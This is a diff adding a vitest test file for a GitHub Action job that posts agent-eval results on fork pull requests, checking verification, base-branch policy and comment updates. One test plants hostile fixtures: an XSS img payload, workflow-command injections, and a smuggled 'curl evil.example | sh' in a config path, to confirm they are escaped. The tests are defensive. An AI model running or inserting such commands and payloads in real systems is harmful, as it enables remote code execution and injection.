@@ -1,0 +1,310 @@
+import { existsSync } from 'node:fs';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect } from 'vitest';
+import { DEPENDABOT, workflowRunEvent } from '#test/support/github/payloads.ts';
+import type { ActionResult } from '#test/support/github/runner.ts';
+import { type FakePullRequest, type FakeRun, type Permissions, READ_ONLY } from '#test/support/github/state.ts';
+import { addArtifact, addRun, forkOf, sha } from '#test/support/github/state-builders.ts';
+import type { WorkspaceFiles } from '#test/support/github/workspace.ts';
+import { it, type RunOptions, type Scene, stageScene } from '#test/support/scene.ts';
+import { scriptedSuite, TRACE } from '#test/support/scripted-suite.ts';
+import { artifactFiles, RESULTS_ARTIFACT, resultsArchive } from '#test/support/stored-artifact.ts';
+
+/** What a workflow file gives the job that reports. */
+const WRITE = { contents: 'read', actions: 'read', pull_requests: 'write' } as const;
+const REPORT_WORKFLOW = '.github/workflows/agent-eval-report.yml';
+
+const SUITE = scriptedSuite({ one: {}, two: {} });
+const BROKEN = scriptedSuite({ one: { step: { answer: { output: 'no' } } }, two: {} });
+
+/** A job that reports has nothing checked out. */
+let nothing: string;
+/** Texts of results.json as runs of main, of a fork that broke it and of one that did not have stored them. */
+let stored: { readonly main: string; readonly broken: string; readonly unchanged: string };
+
+beforeAll(async () => {
+  nothing = await mkdtemp(join(tmpdir(), 'report-'));
+  const scene = await stageScene(SUITE);
+  await scene.pushMain();
+  const main = artifactFiles(scene.fake.state)['results.json'] ?? '';
+  await runOfFork(scene, BROKEN);
+  const broken = artifactFiles(scene.fake.state)['results.json'] ?? '';
+  const { run, ...results } = JSON.parse(main);
+  stored = { main, broken, unchanged: JSON.stringify({ ...results, run: { ...run, side: 'candidate' } }) };
+  await scene.close();
+}, 60_000);
+afterAll(() => rm(nothing, { recursive: true }));
+
+it('a pull request of a fork is commented by the run that reports: judged by our gate, marked as not verified, deciding nothing', async ({
+  openScene,
+}) => {
+  const scene = await openScene(SUITE);
+  const main = await scene.pushMain();
+  const fork = await runOfFork(scene, BROKEN);
+  expect(fork.exitCode, fork.stdout).toBe(1);
+  expect(scene.fake.state.comments).toEqual([]);
+
+  const result = await report(scene, fork.run);
+  expect(result.exitCode, result.stdout).toBe(0);
+  const [comment] = scene.fake.state.comments;
+  expect(comment).toMatchObject({ issueNumber: 1, user: { login: 'github-actions[bot]' } });
+  expect(comment?.body).toContain('Not verified: results of a run of a fork');
+  expect(comment?.body).toMatch(/❌ Agent eval: fail: .*\(unverified results of a fork\)/);
+  expect(comment?.body).toContain(`run=${fork.run.id} attempt=1 sha=${fork.run.headSha}`);
+  expect(comment?.body).toContain(main.run.headSha.slice(0, 7));
+  expect(comment?.body).toContain('<code>one</code>');
+  expect(result.summary).toContain('Not verified');
+  expect(result.outputs['comment-url']).toContain(String(comment?.id));
+  expect(result.outputs).toMatchObject({ verdict: '', passed: '', 'results-path': '' });
+  expect(result.commands.annotations).toEqual([]);
+  expect(existsSync(join(nothing, TRACE))).toBe(false);
+});
+
+describe('the one comment', () => {
+  it('is kept up to date; the report on an older run never overwrites it', async ({ openScene }) => {
+    const scene = await openScene(SUITE);
+    const first = await pullOfFork(scene, stored.broken);
+    await report(scene, first);
+    const [comment] = scene.fake.state.comments;
+    expect(comment?.body).toMatch(/❌ Agent eval: fail/);
+    const newer = addStored(scene, first.headSha, stored.unchanged);
+    await report(scene, newer);
+    await report(scene, newer, { github: { runAttempt: 2 } });
+    expect(comment?.body).toMatch(/✅ Agent eval: pass/);
+
+    const late = await report(scene, first);
+    expect(late.exitCode, late.stdout).toBe(0);
+    expect(comment?.body).toMatch(/✅ Agent eval: pass/);
+    expect(scene.fake.state.comments).toHaveLength(1);
+  });
+
+  it('says that it is outdated when the pull request moves on meanwhile', async ({ openScene }) => {
+    const scene = await openScene(SUITE);
+    const run = await pullOfFork(scene, stored.unchanged);
+    const reporting = report(scene, run);
+    while (!scene.fake.requests.some(({ path }) => path.endsWith('/issues/1/comments')))
+      await new Promise((resolve) => setImmediate(resolve));
+    moveOn(scene);
+    await reporting;
+    expect(scene.fake.state.comments[0]?.body).toContain(`**Outdated:** this is for ${run.headSha.slice(0, 7)}`);
+  });
+
+  it('loses the results of an older commit when the newest one has none that can be read', async ({ openScene }) => {
+    const scene = await openScene(SUITE);
+    await report(scene, await pullOfFork(scene, stored.unchanged));
+    const [comment] = scene.fake.state.comments;
+    expect(comment?.body).toMatch(/✅ Agent eval: pass/);
+    const { pull } = await scene.openPull({ 'README.md': 'more' }, fork(scene));
+    const failed = addRun(scene.fake.state, factsOf(scene, pull.head.sha));
+    const result = await report(scene, failed);
+    expect(result.exitCode, result.stdout).toBe(0);
+    expect(comment?.body).toMatch(/Agent eval: no results[\s\S]*has no artifact agent-eval-results/);
+    expect(scene.fake.state.comments).toHaveLength(1);
+  });
+});
+
+it('a run of a fork without a key evaluated nothing, which is what the comment says', async ({ openScene }) => {
+  const scene = await openScene(
+    scriptedSuite({ one: {} }, { agent: { command: ['node', 'x'], needs: ['SOME_API_KEY'] } }),
+  );
+  const run = await runOfFork(scene, { 'README.md': 'words' });
+  expect(run.outputs['verdict']).toBe('inconclusive');
+  await report(scene, run.run);
+  expect(scene.fake.state.comments[0]?.body).toMatch(/❔ Agent eval: inconclusive: not evaluated: .*get no secrets/);
+});
+
+it('Dependabot has a read-only token in its runs, so it is reported too', async ({ openScene }) => {
+  const scene = await openScene(SUITE);
+  scene.fake.state.token.permissions = READ_ONLY;
+  const run = await scene.runPull({}, { pull: { user: DEPENDABOT } });
+  expect(scene.fake.state.comments).toEqual([]);
+  await report(scene, run.run);
+  expect(scene.fake.state.comments[0]?.body).toContain('Not verified: results of a run of Dependabot');
+});
+
+describe('the policy', () => {
+  const floor = (min: number) => ({ gate: { method: 'threshold', pass_rate: { min, max_drop: 1 } } });
+
+  it('is that of the base commit, whatever the fork writes into its config and its results', async ({ openScene }) => {
+    const scene = await openScene(scriptedSuite({ one: {}, two: {} }, floor(0.9)));
+    const results = JSON.parse(stored.broken);
+    results.policy = { hash: 'x', effective: { method: 'threshold', pass_rate: { min: 0 } } };
+    const lax = scriptedSuite({ one: {}, two: {} }, floor(0.1));
+    await report(scene, await pullOfFork(scene, JSON.stringify(results), lax));
+    const body = scene.fake.state.comments[0]?.body ?? '';
+    expect(body).toMatch(/❌ Agent eval: fail/);
+    expect(body).toContain('90 %');
+  });
+
+  it('that can not be read leaves the results open', async ({ openScene }) => {
+    const scene = await openScene({ ...SUITE, 'agent-eval.yml': 'version: 1\ngate: {confidence: 7}\n' });
+    await report(scene, await pullOfFork(scene, stored.unchanged));
+    expect(scene.fake.state.comments[0]?.body).toMatch(
+      /❔ Agent eval: inconclusive: the gate of the base branch can't be used: agent-eval\.yml/,
+    );
+  });
+
+  it('of a base without a config is the built-in one, which is said', async ({ openScene }) => {
+    const scene = await openScene({ 'README.md': 'nothing yet' });
+    await report(scene, await pullOfFork(scene, stored.unchanged, SUITE));
+    expect(scene.fake.state.comments[0]?.body).toMatch(/agent-eval\.yml at \w+ does not exist, so the gate that holds/);
+  });
+});
+
+it('a baseline file is that of the base commit', async ({ openScene }) => {
+  const scene = await openScene({ ...SUITE, 'evals/baseline.json': stored.main });
+  const run = await pullOfFork(scene, stored.broken, { 'evals/baseline.json': stored.broken });
+  await report(scene, run, { inputs: { baseline: 'file:evals/baseline.json' } });
+  expect(scene.fake.state.comments[0]?.body).toMatch(/❌ Agent eval: fail/);
+});
+
+describe('what a run of a fork has uploaded', () => {
+  const HOSTILE =
+    'x](https://evil.example/?q=1) <img src=x onerror=1> @octo-org/owners fixes #1 ::error::gone ##[add-mask]a';
+
+  it('is data: its names and texts are escaped, its own comment, commands and verdict are never used', async ({
+    openScene,
+  }) => {
+    const scene = await openScene(SUITE);
+    const forged = JSON.parse(stored.broken);
+    forged.config.path = 'agent-eval.yml; curl evil.example | sh';
+    forged.verdict = 'pass';
+    for (const one of forged.cases) {
+      one.name = HOSTILE;
+      one.tags = [HOSTILE.slice(0, 60)];
+      for (const trial of one.trials)
+        for (const check of trial.checks) Object.assign(check, { reason: HOSTILE, name: HOSTILE.slice(0, 40) });
+    }
+    const result = await report(scene, await pullOfFork(scene, JSON.stringify(forged)));
+    expect(result.exitCode, result.stdout).toBe(0);
+    for (const text of [scene.fake.state.comments[0]?.body ?? '', result.summary]) {
+      expect(text).toMatch(/❌ Agent eval: fail/);
+      expect(text).not.toMatch(/<img|\]\(https:\/\/evil|@octo-org|fixes #1|curl/);
+    }
+    expect(result.commands.annotations).toEqual([]);
+    expect(result.envFile).toEqual({});
+  });
+
+  it('is treated as none, and named, when it is not what it says', async ({ openScene }) => {
+    const scene = await openScene(SUITE);
+    const run = await pullOfFork(scene, stored.unchanged);
+    const { run: facts, ...results } = JSON.parse(stored.unchanged);
+    const text = JSON.stringify({ ...results, run: { ...facts, id: '77' } });
+    addArtifact(scene.fake.state, { runId: run.id, name: RESULTS_ARTIFACT, content: resultsArchive(text) });
+    const result = await report(scene, run);
+    expect(result.exitCode, result.stdout).toBe(0);
+    expect(result.commands.annotations).toEqual([
+      expect.objectContaining({ level: 'warning', message: expect.stringContaining('says that it is of another run') }),
+    ]);
+    expect(result.summary).toMatch(/Agent eval: no results/);
+    expect(scene.fake.state.comments).toEqual([]);
+  });
+});
+
+it('a pull request that has moved on before the report gets none: its newer run has one of its own', async ({
+  openScene,
+}) => {
+  const scene = await openScene(SUITE);
+  const run = await pullOfFork(scene, stored.unchanged);
+  moveOn(scene);
+  const result = await report(scene, run);
+  expect(result.exitCode, result.stdout).toBe(0);
+  expect(result.summary).toContain('no open pull request has');
+  expect(scene.fake.state.comments).toEqual([]);
+});
+
+it('a run of the repository itself comments itself, and one for a push has nowhere to: both are passed by', async ({
+  openScene,
+}) => {
+  const scene = await openScene(SUITE);
+  const own = addRun(scene.fake.state, factsOf(scene, sha('h'), { headRepository: scene.fake.state.repository }));
+  const push = addRun(scene.fake.state, factsOf(scene, sha('h'), { event: 'push' }));
+  for (const run of [own, push]) {
+    const result = await report(scene, run);
+    expect(result.exitCode, result.stdout).toBe(0);
+    expect(result.stdout).toContain('Nothing to report');
+    expect(result.commands.annotations).toEqual([]);
+  }
+  expect(scene.fake.state.comments).toEqual([]);
+});
+
+it('without the permission to comment the report is a warning that names it, and nothing is red', async ({
+  openScene,
+}) => {
+  const scene = await openScene(SUITE);
+  const run = await pullOfFork(scene, stored.unchanged);
+  const result = await report(scene, run, {}, READ_ONLY);
+  expect(result.exitCode, result.stdout).toBe(0);
+  expect(result.commands.annotations).toEqual([
+    expect.objectContaining({ level: 'warning', message: expect.stringContaining('Add "pull-requests: write"') }),
+  ]);
+});
+
+it('on another event, mode report is refused and says where it belongs', async ({ openScene }) => {
+  const scene = await openScene(SUITE);
+  const result = await scene.pushMain({ inputs: { mode: 'report' } });
+  expect(result.exitCode).toBe(2);
+  expect(result.commands.annotations[0]?.message).toMatch(/refused to run on push: "mode: report".*"on: workflow_run"/);
+  expect(scene.fake.requests).toEqual([]);
+});
+
+function fork(scene: Scene): { readonly headRepository: FakePullRequest['head']['repository'] } {
+  return { headRepository: forkOf(scene.fake.state.repository) };
+}
+
+/** Runs pull request 1 as GitHub does for a fork: with a token that only reads. */
+async function runOfFork(scene: Scene, files: WorkspaceFiles): Promise<ActionResult> {
+  scene.fake.state.token.permissions = READ_ONLY;
+  return scene.runPull(files, { ...fork(scene), inputs: { confirm: 'never' } });
+}
+
+/** Pull request 1 of a fork, whose run has uploaded these results; main has a baseline. */
+async function pullOfFork(
+  scene: Scene,
+  results: string,
+  files: WorkspaceFiles = { 'README.md': 'words' },
+): Promise<FakeRun> {
+  const { state } = scene.fake;
+  const main = addRun(state, { headSha: await scene.repository.head() });
+  addArtifact(state, { runId: main.id, name: RESULTS_ARTIFACT, content: resultsArchive(stored.main) });
+  const { pull } = await scene.openPull(files, fork(scene));
+  return addStored(scene, pull.head.sha, results);
+}
+
+/** A finished run of the fork; the results tell of it. */
+function addStored(scene: Scene, headSha: string, text: string): FakeRun {
+  const { state } = scene.fake;
+  const run = addRun(state, factsOf(scene, headSha));
+  const results = JSON.parse(text);
+  Object.assign(results.run, { id: String(run.id) });
+  Object.assign(results.commit, { head_sha: headSha });
+  addArtifact(state, { runId: run.id, name: RESULTS_ARTIFACT, content: resultsArchive(JSON.stringify(results)) });
+  return run;
+}
+
+function factsOf(scene: Scene, headSha: string, more: Partial<FakeRun> = {}): { headSha: string } & Partial<FakeRun> {
+  return { headSha, event: 'pull_request', headBranch: 'feature', ...fork(scene), ...more };
+}
+
+/** Runs the job that reports: on the default branch, by its own workflow, with nothing checked out. */
+async function report(
+  scene: Scene,
+  of: FakeRun,
+  options: RunOptions = {},
+  permissions: Permissions = WRITE,
+): Promise<ActionResult> {
+  const { state } = scene.fake;
+  state.token.permissions = permissions;
+  return scene.run(workflowRunEvent(state, of, await scene.repository.git('rev-parse', 'main')), {
+    workspace: nothing,
+    ...options,
+    inputs: { mode: 'report', ...options.inputs },
+    github: { workflowPath: REPORT_WORKFLOW, ...options.github },
+  });
+}
+
+function moveOn(scene: Scene): void {
+  for (const pull of scene.fake.state.pullRequests) pull.head = { ...pull.head, sha: sha('pushed meanwhile') };
+}
